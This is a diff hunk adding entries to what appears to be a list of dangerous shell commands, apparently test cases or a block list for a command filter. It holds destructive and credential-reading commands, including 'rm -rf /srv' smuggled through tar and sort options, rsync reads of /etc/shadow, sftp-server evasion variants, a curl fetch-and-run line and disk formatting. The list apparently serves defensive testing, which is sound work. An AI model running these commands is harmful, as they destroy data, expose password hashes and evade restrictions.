@@ -253,6 +253,31 @@ bash <(curl http://x/y)
 bash -s < x
 sh -c "$X"
 bash -i
+sftp-server
+/usr/lib/openssh/sftp-server
+/usr/lib/openssh/sftp-server -e
+/usr/libexec/sftp-server -R
+sudo /usr/lib/openssh/sftp-server
+sudo -u root sftp-server
+env sftp-server
+sh -c /usr/lib/openssh/sftp-server
+sh -c 'exec sftp-server'
+exec /usr/lib/openssh/sftp-server
+nice sftp-server
+bash -c "cd /; /usr/lib/openssh/sftp-server"
+/usr/lib/openssh/sftp-serve?
+/usr/lib/openssh/*
+internal-sftp
+echo x | sftp-server
+sftp -D /usr/lib/openssh/sftp-server
+tar --to-command='rm -rf /srv' -xf a
+tar --use-compress-program='rm -rf /srv' -xf a
+tar -I 'rm -rf /srv' -xf a
+tar -cf a b --checkpoint=1 --checkpoint-action=exec='rm -rf /srv'
+sort --compress-program='reboot' a
+rsync --server --sender -logDtpre.iLsfxC . /etc/shadow
+rsync --server --sender -logDtpre.iLsfxC . /etc
+rsync -a /etc /tmp/x
 mkfs.ext4 /dev/sda1
 /sbin/mkfs -t ext4 /dev/sda
 `
